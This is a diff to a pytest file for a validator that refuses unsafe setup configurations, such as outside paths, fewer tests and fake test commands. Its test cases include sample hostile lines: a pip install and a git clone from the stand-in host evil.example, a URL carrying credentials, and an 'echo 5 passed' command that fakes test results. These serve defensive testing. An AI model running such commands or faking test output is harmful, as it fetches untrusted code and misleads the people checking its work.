@@ -33,13 +33,13 @@ def make_tests(suite=None, *, passed: int) -> CheckResult:
 @pytest.mark.parametrize(
     ("text", "why"),
     [
-        ("checks: {tests: {args: [--deselect=app/tests/test_a.py]}}", "no path"),
-        ("checks: {tests: {args: ['-papp.tests']}}", "no path"),
-        ("python: {install: ['x @ https://evil.example/x.whl']}", "evil.example"),
+        ("checks: {tests: {args: [--deselect=app/tests/gone.py]}}", "paths that are there"),
+        ("checks: {tests: {args: ['-papp.tests']}}", "paths that are there"),
+        ("setup: ['uv pip install https://evil.example/x.whl']", "evil.example"),
         ("env: {A: 'http://ada:b@evil.example/'}", "evil.example"),
         ("setup: ['git clone ssh://evil.example/x']", "evil.example"),
         ("django: {manage: /etc/manage.py}", "not a path in the repository"),
-        ("python: {install: ['-r missing.txt']}", "no such file"),
+        ("django: {manage: missing.py}", "no such file"),
         ("checks: {tests: {command: 'echo 5 passed'}}", "command"),
         ("checks: {tests: {runner: 'off'}}", "no test"),
         ("scope: {protect: []}", "scope"),
@@ -63,7 +63,8 @@ def test_what_goes_beyond_a_set_up_is_refused_before_anything_is_built(prepared,
         "setup: [npm ci --ignore-scripts]",
         f"setup: [{', '.join(f'make {letter * 90}' for letter in 'abcd')}]",
         f"env: {{{', '.join(f'{letter}: {letter * 90}' for letter in 'abcd')}}}",
-        "version: 1\nroot: app\nchecks: {tests: {args: [tests.test_a, ./tests/test_b.py]}}",
+        "version: 1\nroot: app\nchecks: {tests: {args: [-n, auto, tests.test_a, ./tests/test_b.py]}}",
+        "checks: {tests: {args: [-m, 'not net', '--deselect=app/tests/test_a.py::test_1']}}",
     ],
 )
 def test_what_a_set_up_needs_is_taken(prepared, home, text):
@@ -79,9 +80,7 @@ def test_fewer_tests_and_what_decides_about_them_are_refused(prepared, home, tmp
         (
             ("tree/app/conftest.py", True),
             ("tree/app/test_x.py", True),
-            ("tree/lib/unittest.py", True),
-            ("home/lib/json.py", True),
-            ("bulk/0/pytest.py", True),
+            ("tree/app/_version.py", False),
             ("bulk/0/index.js", False),
             ("tree/data/x", False),
         )
@@ -106,11 +105,6 @@ def test_fewer_tests_and_what_decides_about_them_are_refused(prepared, home, tmp
     lines, left = looked.scouted
     assert "`setup:" in lines.message
     assert "app/tests/test_b.py" in left.message
-    lent = environment.model_copy(update={"path": f"{folder}/environment"})
-    with pytest.raises(RequestRefused, match="environment"):
-        proposed_lines.name_left_out(
-            prepared, made.model_copy(update={"environment": lent}), *given[1:]
-        )
     fewer = prepared.model_copy(update={"contract": contract})
     with pytest.raises(RequestRefused, match="3 tests"):
         proposed_lines.name_left_out(prepared, fewer, make_tests(passed=3), 4, folder_of_base)
